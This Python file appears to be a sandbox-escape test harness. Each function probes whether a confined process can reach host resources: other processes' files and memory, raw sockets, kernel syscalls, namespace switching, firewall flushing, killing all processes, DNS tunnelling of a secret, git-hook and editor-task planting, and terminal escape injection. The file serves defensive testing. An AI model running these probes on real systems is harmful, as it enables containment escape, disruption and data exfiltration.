"""More inert attempts, and the loop that makes all of them: `attempts_more.py JSON` prints `NAME WORD` for each.

JSON is a list of `[name, argument...]`. Each attempt is a process of its own, so that one that is ended is no more than
that. WORD is `reached`, `not` (with the error
behind it), or `broken` when the attempt itself is at fault.
"""

import array
import contextlib
import ctypes
import json
import mmap
import os
import resource
import signal as signals
import socket
import subprocess
import sys
from pathlib import Path

import attempts
from attempts import call, connect, libc, read_file

HOOK = "#!/bin/sh\ntrue\n"


def root_of_another(pid, path):
    return read_file(f"/proc/{pid}/root{path}")


def root_of_any(path):
    for one in Path("/proc").glob("[0-9]*"):
        try:
            if read_file(f"{one}/root{path}"):
                return True
        except OSError:
            pass
    return False


def memory_file_of_another(pid):
    os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
    return True


def shared_memory_file(name):
    return read_file(f"/dev/shm/{name}")


def inherited_descriptor(fd):
    return os.pread(int(fd), 100, 0) == b"host secret"


def passed_descriptor(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
        one.settimeout(2)
        one.connect("\0" + name)
        _, extra, _, _ = one.recvmsg(4, 64)
        fds = array.array("i", extra[0][2][:4])
        return os.pread(fds[0], 100, 0) == b"host secret"


def socket_in_project():
    return connect(socket.AF_UNIX, "host.socket")


def pipe_in_project():
    fd = os.open("host.pipe", os.O_WRONLY | os.O_NONBLOCK)  # ENXIO unless a reader of the host is there
    os.close(fd)
    return True


def link_in_project():
    Path("out", "written").write_text("x")
    return True


def hard_link(path):
    os.link(path, "linked")
    return True


def loopback6(port):
    return connect(socket.AF_INET6, ("::1", int(port)))


def userfaultfd():
    return call(323, 1)


def bpf():
    return call(321, 0, ctypes.create_string_buffer(128), 128)


def performance_counter():
    return call(298, ctypes.create_string_buffer(b"\1\0\0\0\x80", 128), 0, -1, -1, 0)


def packet_socket():
    socket.socket(17, socket.SOCK_RAW, 0).close()
    return True


def ping_socket():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).close()
    return True


def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close()
    return True


def new_privileges():
    return "NoNewPrivs:\t0" in Path("/proc/self/status").read_text()


def _openable(*paths):
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        return True
    return False


def core_pattern():
    return _openable("/proc/sys/kernel/core_pattern")


def magic_keys():
    return _openable("/proc/sysrq-trigger")


def control_groups():
    return _openable(*(str(one) for one in Path("/sys/fs/cgroup").rglob("cgroup.procs")))


def devices():
    return _openable("/dev/kvm", "/dev/net/tun", "/dev/fuse", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/loop0")


def own_program():
    return _openable("/proc/self/exe", "/usr/bin/python3")


def core_dump():
    return resource.getrlimit(resource.RLIMIT_CORE)[1] != 0


def file_handle():
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\1\0\0\0\2\0\0\0\0\0\0\0", 64)
    return call(304, os.open("/", os.O_RDONLY), handle, 0)


def namespace_of_first():
    return call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0)


def namespace_of_another(pid):
    return call(308, os.pidfd_open(int(pid)), 0x40000000)


def flush_rules():
    return subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], capture_output=True).returncode == 0


def processes(mark):
    wanted = mark.encode()
    return any(wanted in one.read_bytes().split(b"\0") for one in Path("/proc").glob("[0-9]*/cmdline"))


def unshare_program():
    return subprocess.run(["/usr/bin/unshare", "-Urm", "true"], capture_output=True).returncode == 0


def much_memory():
    mmap.mmap(-1, 5 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000).close()  # not touched
    return True


def many_files():
    """Is there any folder to write to where more than 2^20 files fit?"""
    folders = [".", "/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", "/tmp")]
    rooms = [os.statvfs(one).f_favail for one in folders if os.access(one, os.W_OK)]
    return any(room > 1 << 20 for room in rooms)


def large_disk():
    """Is there any folder to write to with more than 4 GiB?"""
    folders = [".", "/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", "/tmp")]
    rooms = [os.statvfs(one) for one in folders if os.access(one, os.W_OK)]
    return any(room.f_bavail * room.f_frsize > 4 << 30 for room in rooms)


def set_clock():
    now = (ctypes.c_long * 2)()
    libc.clock_gettime(0, now)
    return call(227, 0, now)


def old_call():
    """getpid of i386, by `int 0x80`: the process is ended for it."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\x53\xb8\x14\0\0\0\xcd\x80\x5b\xc3")
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return run() == os.getpid()


def x32_call():
    return call(0x40000000 | 39)


def kernel_messages():
    return call(103, 3, ctypes.create_string_buffer(64), 64)


def session_bus():
    return any(Path("/run").rglob("docker.sock")) or any(Path("/run").rglob("system_bus_socket"))


def kill_all_others():
    """Inside only. The one that reports, and what it reports to, must outlive it."""
    for one in Path("/proc").glob("[0-9]*"):
        if int(one.name) not in {os.getpid(), os.getppid()}:
            with contextlib.suppress(OSError):
                os.kill(int(one.name), signals.SIGKILL)
    return False


def raw_address6():
    with socket.create_connection(("2001:db8::1", 80), 2) as one:
        one.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        return not one.recv(1000).endswith(b"{}")


def foreign_resolver():
    """A name server of the attacker's: inside, the sandbox is what answers, with an address that is its own."""
    question = b"\1\2\1\0\0\1\0\0\0\0\0\0\1x\4test\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.sendto(question, ("192.0.2.53", 53))
        return one.recv(512)[-4:-2] not in {b"\xc6\x12", b"\xc6\x13"}


def tunnel():
    """A secret in a name. It is answered inside."""
    return not socket.gethostbyname("6b6579." * 8 + "tunnel.test").startswith(("198.18.", "198.19."))


def rebinding():
    """A name that is asked for twice keeps its address, and that is none of the machine's."""
    return socket.gethostbyname("rebind.test") != socket.gethostbyname("rebind.test")


def file_in_memory():
    fd = os.memfd_create("x")
    os.write(fd, Path("/bin/true").read_bytes())
    pid = os.fork()
    if pid == 0:
        os.execve(f"/proc/self/fd/{fd}", ["true"], {})
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


def hook():
    Path(".git/hooks").mkdir(parents=True, exist_ok=True)
    Path(".git/hooks/post-checkout").write_text(HOOK)
    return True


def editor_task():
    Path(".vscode").mkdir(exist_ok=True)
    Path(".vscode/tasks.json").write_text("{}")
    return True


def change_linked():
    """`shared` of the project is the same file as one outside of it."""
    with Path("shared").open("a") as file:
        file.write("changed")
    return True


def escapes():
    name = "\x1b]0;owned\x07\x1b[2J"
    subprocess.run(["/bin/true", name], check=True)
    Path(name).write_text("x")
    return True


def one_of(name, words):
    """Make one attempt in a process of its own."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        signals.alarm(25)
        try:
            word = b"reached" if (globals().get(name) or getattr(attempts, name))(*words) else b"not"
        except OSError as error:
            word = f"not {error!r}".encode()
        except Exception as error:  # noqa: BLE001 - told apart: the attempt itself is at fault
            word = f"broken {error!r}".encode()
        os.write(write, word[:200])
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as answer:
        word = answer.read()
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return word.decode(errors="replace") or ("not: ended for it" if code == -signals.SIGSYS else f"broken: {code}")


if __name__ == "__main__":
    for one_name, *one_words in json.loads(sys.argv[1]):
        sys.stdout.write(f"{one_name} {one_of(one_name, one_words)!a}\n")
        sys.stdout.flush()
